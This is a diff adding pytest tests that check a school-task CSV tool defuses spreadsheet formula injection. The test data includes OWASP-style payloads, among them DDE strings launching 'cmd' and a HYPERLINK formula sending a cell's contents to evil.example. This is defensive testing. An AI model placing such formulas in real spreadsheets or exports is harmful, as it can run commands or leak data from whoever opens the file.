@@ -511,6 +511,51 @@ def test_a_csv_file_that_is_not_utf8_or_too_wide(tmp_path, monkeypatch):
     assert (problem.type, problem.loc) == ("workbook_too_large", ("D1",))
 
 
+# --- formula injection: what mandaat writes, a spreadsheet never runs -----------------------
+
+#: Texts a spreadsheet would run as a formula (the OWASP examples), with each start.
+FORMULAS = ("=1+1", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            '=HYPERLINK("http://evil.example/?x="&A1,"klik")', "'=1+1")
+
+
+@pytest.mark.parametrize("formula", [*FORMULAS, "\t=1+1", "\r=1+1"])
+def test_a_csv_matrix_with_quoted_formulas_reads_back_as_the_names_and_titles(tmp_path,
+                                                                             formula):
+    """A CSV file in the reader's layout, written by mandaat's CSV rule: the quote it puts
+    in front of a formula is taken off again, by the library, ``check`` and ``import``."""
+    from mandaat._formula import csv_line
+
+    rows = [["Taak", "Soort taak", "Anna Jansen (schoolleider)", f"{formula} (leraar)"],
+            [formula, "schoolanalyse", "A", "R 20"]]
+    path = tmp_path / "taken.csv"
+    path.write_bytes("".join(csv_line(r) for r in rows).encode("utf-8"))
+    written = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline=""),
+                              delimiter=";"))
+    assert written[0][3] == f"'{formula} (leraar)" and written[1][0] == f"'{formula}"
+    school = W.read_csv(path)
+    # a heading's name is read without the spaces around it (so a tab or CR in front goes)
+    assert [p.name for p in school.people] == ["Anna Jansen", formula.strip()]
+    assert [t.title for t in school.tasks] == [formula]
+    from tests.cli.test_cli import run
+
+    code, out, err = run("check", str(path), "--format", "json")
+    assert code in (0, 1) and err == "" and json.loads(out)["school"] == "taken"
+    code, out, err = run("import", str(path))
+    assert (code, err) == (0, "")
+    back = yaml.safe_load(out)
+    assert [p["name"] for p in back["people"]] == ["Anna Jansen", formula.strip()]
+    assert [t["title"] for t in back["tasks"]] == [formula]
+
+
+def test_a_quote_typed_in_front_of_other_text_stays(tmp_path):
+    path = write_csv(tmp_path / "taken.csv", [
+        ["Taak", "Soort taak", "Anna Jansen (schoolleider)", "'Tom (leraar)"],
+        ["'s Morgens", "schoolanalyse", "A", "R 20"]], delimiter=";")
+    school = W.read_csv(path)
+    assert [p.name for p in school.people] == ["Anna Jansen", "'Tom"]
+    assert school.tasks[0].title == "'s Morgens"
+
+
 # --- the planner layout: activities down, team members across, hours in the cells ----------
 
 
